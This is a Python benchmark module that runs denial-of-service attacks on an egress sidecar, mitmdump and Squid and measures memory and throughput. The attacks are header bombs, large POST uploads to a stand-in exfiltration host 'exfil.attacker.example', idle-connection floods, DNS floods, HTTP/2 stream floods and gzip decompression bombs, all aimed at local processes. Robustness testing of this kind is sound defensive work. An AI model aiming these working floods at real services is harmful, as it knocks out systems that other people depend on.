"""The `hostile` scenario (issue 10): each attack of a hostile gateway, or of a malicious
upstream, against egress-sidecar, mitmdump with its defaults and Squid.

For every (attack, contender): the contender's RSS before, its peak RSS while the attack
runs (sampled every 100 ms from /proc, plus VmHWM, the kernel's own peak), its RSS one
second after, and the allowed throughput (4 keep-alive connections of small provider
requests) just before and during the attack. A contender that dies (OOM kill, crash) is
a result: it is printed, the attack stops early, and the next attack gets a fresh one.

Full mode starts a fresh process of each contender for every attack, so each peak is
that attack's own; quick mode (the CI smoke run) uses one process per contender for
all attacks (the main run's mitmdump and Squid, a sidecar of its own with `--dns`) and
shrinks every size: the peaks are then cumulative, which the table says.

Attacks (sizes for full / quick):
- header_bomb: one request whose header line is 200 MB / 4 MB, streamed in 1 MB writes.
- refused_bodies: 3 POSTs of 59 MB / 2 MB to an unlisted host, with `Expect: 100-continue`.
- idle_connections: 2,000 / 100 TCP connections that never send a byte, held 5 s / 0.5 s.
- dns_flood: 5,000 / 2,000 queries/s from 500 / 50 UDP source ports for 5 s / 0.5 s
  (only contenders with a DNS listener: the sidecar with `--dns`).
- auth_tokens: a 41 KB / 8 KB `Authorization` header of low-entropy tokens, each of a
  new (length, alphabet) pair, to the key-injecting provider; 8 / 1 requests.
- upstream_header_bomb: the provider (our fake, playing a malicious upstream) answers
  with a 200 MB / 4 MB response header.
- h2_body_flood: 40 / 4 HTTP/2 connections (CONNECT + TLS, ALPN h2), each opening 100 /
  10 POST streams and sending every stream as much body as flow control allows (up to
  64 KiB), never ending them (the red team's flood, redteam/pod/test_exhaust.py).
- gzip_responses: 8 / 2 concurrent keyed requests whose responses are ~30 KB gzip
  bodies decoding to 30 / 4 MB each (a malicious upstream ignoring `identity`).

Run alone: `python -m bench.hostile [--quick]`; it is also part of `python -m bench`.
"""

from __future__ import annotations

import argparse
import asyncio
import dataclasses
import itertools
import json
import random
import shutil
import ssl
import sys
import tempfile
import time
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

from bench import contenders as C
from bench.client import SMALL_REQUEST, Conn, Target
from bench.procs import Procs, free_port, memory

MB = 1 << 20
CONTENDERS = ("sidecar", "mitmdump", "squid")
NOT_HERE = {
    "direct": "no proxy: nothing to attack",
    "trimmed": "a speed baseline; mitmdump stands for mitmproxy's defaults",
}


@dataclasses.dataclass(frozen=True)
class Sizes:
    header_mb: int
    body_mb: int
    bodies: int
    idle: int
    idle_seconds: float
    dns_sockets: int
    dns_rate: int
    dns_seconds: float
    auth_requests: int
    auth_kb: int
    upstream_mb: int
    quiet_seconds: float
    attack_timeout: float
    fresh_per_attack: bool
    h2_connections: int = 40
    h2_streams: int = 100
    gzip_requests: int = 8
    gzip_mb: int = 30


FULL = Sizes(
    header_mb=200,
    body_mb=59,
    bodies=3,
    idle=2000,
    idle_seconds=5.0,
    dns_sockets=500,
    dns_rate=5000,
    dns_seconds=5.0,
    auth_requests=8,
    auth_kb=41,
    upstream_mb=200,
    quiet_seconds=1.5,
    attack_timeout=150.0,
    fresh_per_attack=True,
)
QUICK = Sizes(
    header_mb=4,
    body_mb=2,
    bodies=3,
    idle=100,
    idle_seconds=0.5,
    dns_sockets=50,
    dns_rate=2000,
    dns_seconds=0.5,
    auth_requests=1,
    auth_kb=8,
    upstream_mb=4,
    quiet_seconds=0.3,
    attack_timeout=20.0,
    fresh_per_attack=False,
    h2_connections=4,
    h2_streams=10,
    gzip_requests=2,
    gzip_mb=4,
)


@dataclasses.dataclass
class Victim:
    """One running contender under attack."""

    name: str
    contender: C.Contender
    procs: Procs
    dns_port: int | None = None
    owned: bool = True  # started here (stopped here), or borrowed from the main run

    @property
    def alive(self) -> bool:
        proc = self.contender.proc
        return proc is not None and proc.poll() is None

    def exit_status(self) -> str:
        proc = self.contender.proc
        code = None if proc is None else proc.poll()
        if code is None:
            return "alive"
        return "KILLED by signal 9 (OOM?)" if code == -9 else f"DIED (exit {code})"


def start_victim(name: str, world: C.World, directory: Path) -> Victim:
    """A fresh contender with its own files (Squid's pid file, mitmdump's confdir)."""
    directory.mkdir(parents=True, exist_ok=True)
    for folder in (directory, *directory.parents):
        if folder == world.tmp.parent:
            break
        folder.chmod(0o711)  # Squid drops root to its own user, which must get through
    own = dataclasses.replace(world, tmp=directory)
    procs = Procs(directory)
    dns_port = None
    if name == "sidecar":
        dns_port = free_port() if C.has_dns_listener() else None
        contender = C.start_sidecar(procs, own, dns_port=dns_port)
    elif name == "mitmdump":
        contender = C.start_mitmdump(procs, own)
        C.wait_mitm(contender)
    else:
        contender = C.start_squid(procs, own)
    return Victim(name, contender, procs, dns_port)


# --- measuring around an attack ------------------------------------------------------------


async def allowed_traffic(
    target: Target, stop: asyncio.Event, connections: int = 4
) -> tuple[int, int, float]:
    """Small provider requests on keep-alive connections until `stop`: (ok, errors, s)."""
    ok = errors = 0
    context = target.ssl_context()
    start = time.perf_counter()

    async def worker() -> None:
        nonlocal ok, errors
        conn: Conn | None = None
        while not stop.is_set():
            try:
                if conn is None or conn.closed:
                    conn = await Conn.open(target, context)
                status, _ = await conn.request("POST", "/v1/chat/completions", SMALL_REQUEST)
                if status == 200:
                    ok += 1
                else:
                    errors += 1
            except Exception:
                errors += 1
                if conn is not None:
                    conn.close()
                conn = None
                await asyncio.sleep(0.1)
        if conn is not None:
            conn.close()

    await asyncio.gather(*(worker() for _ in range(connections)))
    return ok, errors, time.perf_counter() - start


async def quiet_rate(target: Target, seconds: float) -> float:
    stop = asyncio.Event()
    task = asyncio.create_task(allowed_traffic(target, stop))
    await asyncio.sleep(seconds)
    stop.set()
    ok, _, elapsed = await task
    return round(ok / elapsed, 1) if elapsed else 0.0


async def sample_rss(victim: Victim, stop: asyncio.Event) -> float:
    """Peak VmRSS (MB) seen every 100 ms until `stop` or the process's death."""
    pid = victim.contender.pid
    peak = 0.0
    while not stop.is_set() and victim.alive and pid is not None:
        try:
            peak = max(peak, memory(pid).get("vmrss_mb", 0.0))
        except (FileNotFoundError, ProcessLookupError, ValueError):
            break
        await asyncio.sleep(0.1)
    return peak


Attack = Callable[[Victim, Sizes], Awaitable[dict[str, Any]]]


async def measure(attack: Attack, victim: Victim, sizes: Sizes) -> dict[str, Any]:
    pid = victim.contender.pid
    assert pid is not None
    await quiet_rate(victim.contender.target, 0.3)  # warm: CA certificate, upstream connection
    before = memory(pid)
    quiet = await quiet_rate(victim.contender.target, sizes.quiet_seconds)
    stop = asyncio.Event()
    sampler = asyncio.create_task(sample_rss(victim, stop))
    allowed = asyncio.create_task(allowed_traffic(victim.contender.target, stop))
    t0 = time.perf_counter()
    try:
        outcome = await asyncio.wait_for(attack(victim, sizes), sizes.attack_timeout)
    except TimeoutError:
        outcome = {"outcome": f"attack still running after {sizes.attack_timeout:.0f} s: stopped"}
    except Exception as exc:
        outcome = {"outcome": f"attack client error: {type(exc).__name__}: {exc}"[:200]}
    seconds = time.perf_counter() - t0
    await asyncio.sleep(min(1.0, sizes.quiet_seconds * 2))  # after the close (mitmproxy
    # formats the buffer of a broken request into its log message then)
    stop.set()
    peak = await sampler
    ok, errors, elapsed = await allowed
    result: dict[str, Any] = {
        "rss_before_mb": before.get("vmrss_mb"),
        "peak_rss_sampled_mb": peak or None,
        "attack_seconds": round(seconds, 1),
        "allowed_rps_before": quiet,
        "allowed_rps_during": round(ok / elapsed, 1) if elapsed else None,
        "allowed_errors_during": errors,
        "status": victim.exit_status(),
        **outcome,
    }
    during = result["allowed_rps_during"]
    result["during_over_before"] = (
        round(during / quiet, 2) if quiet and during is not None else None
    )
    if victim.alive:
        after = memory(pid)
        result["rss_after_mb"] = after.get("vmrss_mb")
        result["vmhwm_mb"] = after.get("vmhwm_mb")
    return result


# --- the attacks ---------------------------------------------------------------------------


async def _status_line(reader: asyncio.StreamReader) -> str:
    line = await reader.readuntil(b"\r\n")
    return line.decode(errors="replace").strip()


async def _drain(writer: asyncio.StreamWriter) -> None:
    await asyncio.wait_for(writer.drain(), 15)


async def header_bomb(victim: Victim, sizes: Sizes) -> dict[str, Any]:
    """One request whose header line grows by 1 MB writes up to `header_mb`."""
    target = victim.contender.target
    assert target.proxy is not None
    reader, writer = await asyncio.open_connection(*target.proxy)
    answer = asyncio.create_task(_status_line(reader))
    sent = 0
    how = "sent whole"
    try:
        writer.write(
            f"GET http://{target.host_header}/v1/models HTTP/1.1\r\n"
            f"Host: {target.host_header}\r\nX-Bomb: ".encode()
        )
        chunk = b"a" * MB
        while sent < sizes.header_mb * MB:
            if answer.done() or not victim.alive:
                how = "stopped early"
                break
            writer.write(chunk)
            await _drain(writer)
            sent += len(chunk)
        else:
            writer.write(b"\r\n\r\n")
            await _drain(writer)
        status = await asyncio.wait_for(asyncio.shield(answer), 10)
    except (ConnectionError, TimeoutError, asyncio.IncompleteReadError) as exc:
        status = ""
        how = f"connection ended ({type(exc).__name__})"
        if answer.done() and not answer.cancelled() and answer.exception() is None:
            status = answer.result()
    finally:
        if not answer.done():
            answer.cancel()
        writer.close()
    return {
        "outcome": f"{how} after {sent // MB} MB; answer: {status or 'none'}",
        "sent_mb": sent // MB,
        "answer": status,
    }


async def refused_bodies(victim: Victim, sizes: Sizes) -> dict[str, Any]:
    """`bodies` POSTs of `body_mb` each to an unlisted host, all at once."""
    target = victim.contender.target
    assert target.proxy is not None
    host = "exfil.attacker.example"

    async def one() -> dict[str, Any]:
        reader, writer = await asyncio.open_connection(*target.proxy)
        length = sizes.body_mb * MB
        first = final = ""
        sent = 0
        try:
            writer.write(
                f"POST http://{host}/upload HTTP/1.1\r\nHost: {host}\r\n"
                f"Content-Length: {length}\r\nExpect: 100-continue\r\n\r\n".encode()
            )
            await _drain(writer)
            try:
                first = await asyncio.wait_for(_status_line(reader), 1.0)
            except TimeoutError:
                first = "(no answer within 1 s: client sends the body, as curl does)"
            if first.startswith("HTTP/1.1 100"):
                while (await reader.readuntil(b"\r\n")) != b"\r\n":
                    pass
            if not first.startswith("HTTP/1.1 100") and first.startswith("HTTP/"):
                final = first  # refused on the headers
            else:
                chunk = b"b" * MB
                while sent < length:
                    writer.write(chunk)
                    await _drain(writer)
                    sent += len(chunk)
                final = await asyncio.wait_for(_status_line(reader), 30)
        except (ConnectionError, TimeoutError, asyncio.IncompleteReadError) as exc:
            final = final or f"connection ended ({type(exc).__name__})"
        finally:
            writer.close()
        return {"first": first, "final": final, "body_sent_mb": sent // MB}

    answers = await asyncio.gather(*(one() for _ in range(sizes.bodies)))
    continues = sum(1 for a in answers if a["first"].startswith("HTTP/1.1 100"))
    body_mb = sum(a["body_sent_mb"] for a in answers)
    finals = sorted({a["final"][:40] for a in answers})
    return {
        "outcome": f"100 Continue: {continues}/{len(answers)}; body bytes taken: "
        f"{body_mb} MB; answers: {', '.join(finals)}",
        "continues": continues,
        "body_sent_mb": body_mb,
    }


async def idle_connections(victim: Victim, sizes: Sizes) -> dict[str, Any]:
    """`idle` TCP connections that send nothing, held `idle_seconds`."""
    target = victim.contender.target
    assert target.proxy is not None
    gate = asyncio.Semaphore(64)
    conns: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []
    failed = 0

    async def one() -> None:
        nonlocal failed
        async with gate:
            try:
                conns.append(await asyncio.wait_for(asyncio.open_connection(*target.proxy), 10))
            except (OSError, TimeoutError):
                failed += 1

    try:
        await asyncio.gather(*(one() for _ in range(sizes.idle)))
        await asyncio.sleep(sizes.idle_seconds)
        closed = 0
        for reader, _ in conns:
            if reader.at_eof():
                closed += 1
                continue
            try:
                data = await asyncio.wait_for(reader.read(1), 0.001)
                closed += data == b""
            except TimeoutError:
                pass
            except ConnectionError:
                closed += 1
    finally:
        for _, writer in conns:
            writer.close()
    return {
        "outcome": f"{len(conns)} opened, {failed} refused at connect, {closed} closed "
        f"by the proxy within {sizes.idle_seconds:.0f} s",
        "opened": len(conns),
        "closed_by_proxy": closed,
    }


async def dns_flood(victim: Victim, sizes: Sizes) -> dict[str, Any]:
    """Queries from `dns_sockets` source ports, as fast as this client sends them."""
    import dns.message

    assert victim.dns_port is not None
    loop = asyncio.get_running_loop()
    answered = 0

    class Count(asyncio.DatagramProtocol):
        def datagram_received(self, data: bytes, addr: Any) -> None:
            nonlocal answered
            answered += 1

    transports = []
    for _ in range(sizes.dns_sockets):
        transport, _ = await loop.create_datagram_endpoint(
            Count, remote_addr=("127.0.0.1", victim.dns_port)
        )
        transports.append(transport)
    rng = random.Random(10)
    names = [C.PROVIDER_HOST] + [
        f"{rng.getrandbits(40):x}.exfil.attacker.example" for _ in range(256)
    ]
    wires = [dns.message.make_query(n, "A").to_wire() for n in names]
    sent = 0
    start = time.perf_counter()
    ports = itertools.cycle(transports)
    per_tick = max(1, sizes.dns_rate // 100)  # paced, so this client keeps its own loop free
    try:
        while time.perf_counter() - start < sizes.dns_seconds and victim.alive:
            for _ in range(per_tick):
                next(ports).sendto(wires[sent % len(wires)])
                sent += 1
            await asyncio.sleep(0.01)
        await asyncio.sleep(min(1.0, sizes.dns_seconds))  # late answers
    finally:
        for transport in transports:
            transport.close()
    elapsed = time.perf_counter() - start
    await asyncio.sleep(max(0.0, sizes.idle_seconds))  # then: is the flow state released?
    settled = memory(victim.contender.pid).get("vmrss_mb") if victim.alive else None
    return {
        "outcome": f"{sent:,} queries (paced at {sizes.dns_rate:,}/s) from "
        f"{len(transports)} ports in "
        f"{sizes.dns_seconds:.0f} s, {answered:,} answered "
        f"({answered / elapsed:,.0f}/s); RSS {sizes.idle_seconds:.0f} s later: "
        f"{settled} MB",
        "queries": sent,
        "answered": answered,
        "rss_settled_mb": settled,
    }


# (length, alphabet) pairs the generic key detector has not seen: one token each. Hex,
# lower+digits, and letters+digits with 0..6 of the token's symbols ('_-.~+/').
def _token_pairs() -> itertools.cycle[tuple[int, str]]:
    symbols = "_-.~+/"
    shapes = (
        ["a1", "z1", "zZ1"]
        + [f"z1{symbols[:k]}" for k in range(1, 7)]
        + [f"zZ1{symbols[:k]}" for k in range(1, 7)]
    )
    return itertools.cycle([(n, s) for s in shapes for n in range(32, 513)])


def _token(n: int, shape: str) -> str:
    return shape[0] * (n - len(shape) + 1) + shape[1:]  # low entropy: mostly one letter


async def auth_tokens(victim: Victim, sizes: Sizes, pairs: Any = None) -> dict[str, Any]:
    """`auth_requests` requests, each with an `auth_kb` Authorization header of new tokens."""
    pairs = pairs or _token_pairs()
    target = victim.contender.target
    latencies: list[float] = []
    statuses: dict[int, int] = {}
    for _ in range(sizes.auth_requests):
        tokens: list[str] = []
        size = 0
        while size < sizes.auth_kb * 1000:
            tokens.append(_token(*next(pairs)))
            size += len(tokens[-1]) + 1
        header = "Bearer " + " ".join(tokens)
        conn = await Conn.open(target, target.ssl_context())
        try:
            body = SMALL_REQUEST
            conn.writer.write(
                (
                    f"POST /v1/chat/completions HTTP/1.1\r\nHost: {target.host_header}\r\n"
                    f"Authorization: {header}\r\nContent-Type: application/json\r\n"
                    f"Content-Length: {len(body)}\r\n\r\n"
                ).encode()
                + body
            )
            t0 = time.perf_counter()
            status = int((await asyncio.wait_for(_status_line(conn.reader), 30)).split()[1])
            latencies.append(time.perf_counter() - t0)
            statuses[status] = statuses.get(status, 0) + 1
        finally:
            conn.close()
    worst = max(latencies) * 1000 if latencies else None
    median = sorted(latencies)[len(latencies) // 2] * 1000 if latencies else None
    return {
        "outcome": f"{len(latencies)} requests, answered {statuses}; time to answer "
        f"median {median:.0f} ms, worst {worst:.0f} ms",
        "answer_ms_median": round(median, 1) if median else None,
        "answer_ms_worst": round(worst, 1) if worst else None,
    }


async def upstream_header_bomb(victim: Victim, sizes: Sizes) -> dict[str, Any]:
    """The provider answers with a `upstream_mb` response header."""
    target = victim.contender.target
    conn = await Conn.open(target, target.ssl_context())
    received = 0
    head = tail = b""
    how = "read to the end"
    try:
        conn.writer.write(
            f"GET /v1/bench/header-bomb?mb={sizes.upstream_mb} HTTP/1.1\r\n"
            f"Host: {target.host_header}\r\nConnection: close\r\n\r\n".encode()
        )
        while True:
            data = await asyncio.wait_for(conn.reader.read(MB), 30)
            if not data:
                break
            if not head:
                head = data[:80]
            received += len(data)
            if b"\r\n\r\n" in tail + data:  # the whole head (the proxy's or the bomb)
                how = "got a whole response head"
                break
            tail = data[-3:]
            if not victim.alive:
                how = "stopped early"
                break
    except (ConnectionError, TimeoutError) as exc:
        how = f"connection ended ({type(exc).__name__})"
    finally:
        conn.close()
    first = head.split(b"\r\n", 1)[0].decode(errors="replace") or "nothing"
    return {
        "outcome": f"{how}; client got {received / MB:,.1f} MB, first line: {first}",
        "client_received_mb": round(received / MB, 1),
    }


async def h2_body_flood(victim: Victim, sizes: Sizes) -> dict[str, Any]:
    """`h2_connections` HTTP/2 connections x `h2_streams` POST streams, each sent as much
    body as flow control allows (at most 64 KiB) and never ended; held until the end."""
    import h2.config
    import h2.connection
    import h2.events

    target = victim.contender.target
    assert target.proxy is not None
    context = ssl.create_default_context(cafile=target.cafile)
    context.set_alpn_protocols(["h2"])
    held: list[asyncio.StreamWriter] = []
    counts = {"sent": 0, "reset": 0, "not_h2": 0, "failed": 0}

    async def one() -> None:
        reader, writer = await asyncio.open_connection(*target.proxy)
        writer.write(
            f"CONNECT {target.authority} HTTP/1.1\r\nHost: {target.authority}\r\n\r\n".encode()
        )
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 15)
        if b" 200" not in head.split(b"\r\n", 1)[0]:
            raise ConnectionError(head[:40])
        await writer.start_tls(context, server_hostname=target.sni)
        held.append(writer)
        tls = writer.get_extra_info("ssl_object")
        if tls is None or tls.selected_alpn_protocol() != "h2":
            counts["not_h2"] += 1
            return
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        writer.write(conn.data_to_send())
        conn.receive_data(await asyncio.wait_for(reader.read(65536), 15))  # its SETTINGS
        for i in range(sizes.h2_streams):
            stream_id = 1 + 2 * i
            conn.send_headers(
                stream_id,
                [
                    (":method", "POST"),
                    (":scheme", "https"),
                    (":authority", target.host_header),
                    (":path", "/v1/chat/completions"),
                    ("content-type", "application/json"),
                ],
            )
            window = min(65536, conn.local_flow_control_window(stream_id))
            while window > 0:
                size = min(window, conn.max_outbound_frame_size)
                conn.send_data(stream_id, b"A" * size)
                counts["sent"] += size
                window -= size
            writer.write(conn.data_to_send())
            await _drain(writer)
        try:
            data = await asyncio.wait_for(reader.read(1 << 20), 1)
            counts["reset"] += sum(
                isinstance(e, h2.events.StreamReset) for e in conn.receive_data(data)
            )
        except Exception:
            pass

    async def guarded() -> None:
        try:
            await one()
        except Exception:
            counts["failed"] += 1

    try:
        await asyncio.gather(*(guarded() for _ in range(sizes.h2_connections)))
        await asyncio.sleep(2.0)  # held: what the proxy keeps for them shows now
    finally:
        for writer in held:
            writer.close()
    return {
        "outcome": f"{sizes.h2_connections} connections x {sizes.h2_streams} streams: "
        f"{counts['sent'] / MB:,.1f} MB of body sent, {counts['reset']} resets seen, "
        f"{counts['not_h2']} not HTTP/2, {counts['failed']} failed",
        "body_sent_mb": round(counts["sent"] / MB, 1),
    }


async def gzip_responses(victim: Victim, sizes: Sizes) -> dict[str, Any]:
    """`gzip_requests` concurrent keyed requests answered with gzip bodies decoding to
    `gzip_mb` MB each."""
    target = victim.contender.target
    statuses: dict[int, int] = {}

    async def one() -> None:
        conn = await Conn.open(target, target.ssl_context())
        try:
            conn.writer.write(
                f"GET /v1/bench/gzip?mb={sizes.gzip_mb} HTTP/1.1\r\n"
                f"Host: {target.host_header}\r\nConnection: close\r\n\r\n".encode()
            )
            line = await asyncio.wait_for(_status_line(conn.reader), 60)
            status = int(line.split()[1]) if len(line.split()) > 1 else 0
            while await asyncio.wait_for(conn.reader.read(MB), 60):
                pass
        except (ConnectionError, TimeoutError, ValueError):
            status = 0
        finally:
            conn.close()
        statuses[status] = statuses.get(status, 0) + 1

    await asyncio.gather(*(one() for _ in range(sizes.gzip_requests)))
    return {"outcome": f"answered {dict(sorted(statuses.items()))}", "statuses": statuses}


ATTACKS: dict[str, Attack] = {
    "header_bomb": header_bomb,
    "refused_bodies": refused_bodies,
    "idle_connections": idle_connections,
    "dns_flood": dns_flood,
    "auth_tokens": auth_tokens,
    "upstream_header_bomb": upstream_header_bomb,
    "h2_body_flood": h2_body_flood,
    "gzip_responses": gzip_responses,
}


# --- running and reporting -----------------------------------------------------------------


def _stop(victim: Victim) -> None:
    if victim.owned:
        victim.procs.stop_all()


async def run_hostile(
    mode: str,
    world: C.World,
    tmp: Path,
    log: Callable[[str], None],
    running: dict[str, C.Contender] | None = None,
) -> dict[str, Any]:
    """Every attack against every contender. Quick mode borrows the main run's `running`
    mitmdump and Squid (no start-up cost in the CI smoke run); the sidecar is always
    started here, with a DNS listener."""
    sizes = QUICK if mode == "quick" else FULL
    borrowed = {} if sizes.fresh_per_attack else dict(running or {})
    out: dict[str, Any] = {name: {"status": "n/a", "why": why} for name, why in NOT_HERE.items()}
    out["_sizes"] = dataclasses.asdict(sizes)
    root = tmp / "hostile"
    for name in CONTENDERS:
        out[name] = {}
        victim: Victim | None = None
        try:
            for attack_name, attack in ATTACKS.items():
                if attack_name == "dns_flood" and name != "sidecar":
                    out[name][attack_name] = {"status": "n/a", "why": "no DNS listener"}
                    continue
                if victim is not None and (sizes.fresh_per_attack or not victim.alive):
                    _stop(victim)
                    victim = None
                if victim is None and name in borrowed and name != "sidecar":
                    contender = borrowed.pop(name)
                    assert contender.proc is not None
                    victim = Victim(name, contender, Procs(root), owned=False)
                if victim is None:
                    try:
                        victim = start_victim(name, world, root / f"{name}-{attack_name}")
                    except Exception as exc:
                        out[name][attack_name] = {
                            "status": "error",
                            "why": f"start: {type(exc).__name__}: {exc}",
                        }
                        continue
                if attack_name == "dns_flood" and victim.dns_port is None:
                    out[name][attack_name] = {"status": "n/a", "why": "built without --dns"}
                    continue
                t0 = time.perf_counter()
                out[name][attack_name] = await measure(attack, victim, sizes)
                log(
                    f"  hostile {attack_name} {name}: {out[name][attack_name]['status']}, "
                    f"{time.perf_counter() - t0:.1f}s"
                )
        finally:
            if victim is not None:
                _stop(victim)
    return out


def report(hostile: dict[str, Any]) -> str:
    from bench.run import fmt, table

    sizes = hostile.get("_sizes", {})
    fresh = sizes.get("fresh_per_attack")
    lines = []
    for attack in ATTACKS:
        rows = []
        for name in CONTENDERS:
            e = (hostile.get(name) or {}).get(attack)
            if not isinstance(e, dict):
                continue
            if "rss_before_mb" not in e:
                rows.append(
                    [name, f"{e.get('status')}: {e.get('why')}", "", "", "", "", "", "", ""]
                )
                continue
            rows.append(
                [
                    name,
                    e["rss_before_mb"],
                    e.get("peak_rss_sampled_mb"),
                    e.get("vmhwm_mb"),
                    e.get("rss_after_mb"),
                    e["allowed_rps_before"],
                    e["allowed_rps_during"],
                    e.get("during_over_before"),
                    f"{e['status']}; {e.get('outcome', '')}",
                ]
            )
        title = f"Hostile: {attack} ({
            'fresh process per attack'
            if fresh
            else 'one process per contender for all attacks: peaks are cumulative'
        })"
        lines.append(
            table(
                title,
                [
                    "contender",
                    "RSS before MB",
                    "peak RSS MB (sampled)",
                    "VmHWM MB",
                    "RSS after MB",
                    "allowed req/s before",
                    "during",
                    "during/before",
                    "process; what happened",
                ],
                rows,
            )
        )
    del fmt
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        prog="python -m bench.hostile", description=__doc__.splitlines()[0]
    )
    parser.add_argument("--quick", action="store_true", help="small sizes (the CI smoke run)")
    parser.add_argument("--output", help="also write the results as JSON here")
    parser.add_argument(
        "--attacks", help="comma-separated subset of the attacks (default: all)", default=""
    )
    parser.add_argument(
        "--contenders", help="comma-separated subset of the contenders (default: all)", default=""
    )
    parser.add_argument(
        "--sidecar-tree", help="run the sidecar from this source tree (a version to compare)"
    )
    args = parser.parse_args(argv)
    if args.sidecar_tree:
        C.SIDECAR_TREE = str(Path(args.sidecar_tree).resolve())
    if args.attacks:
        for name in set(ATTACKS) - set(args.attacks.split(",")):
            del ATTACKS[name]
    if args.contenders:
        global CONTENDERS
        CONTENDERS = tuple(c for c in CONTENDERS if c in args.contenders.split(","))
    if C.squid_binary() is None:
        print("squid not installed (apt-get install -y squid)", file=sys.stderr)
        return 3
    import resource

    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 65536), hard))
    started = time.monotonic()

    def log(message: str) -> None:
        print(f"[{time.monotonic() - started:6.1f}s] {message}", file=sys.stderr, flush=True)

    tmp = Path(tempfile.mkdtemp(prefix="egress-bench-hostile-"))
    procs = Procs(tmp)

    async def run() -> dict[str, Any]:
        world = C.start_world(procs, tmp)
        return await run_hostile("quick" if args.quick else "full", world, tmp, log)

    try:
        result = asyncio.run(run())
    finally:
        procs.stop_all()
        shutil.rmtree(tmp, ignore_errors=True)
    if args.output:
        Path(args.output).write_text(json.dumps(result, indent=1, default=str))
    print(report(result))
    return 0


if __name__ == "__main__":
    sys.exit(main())
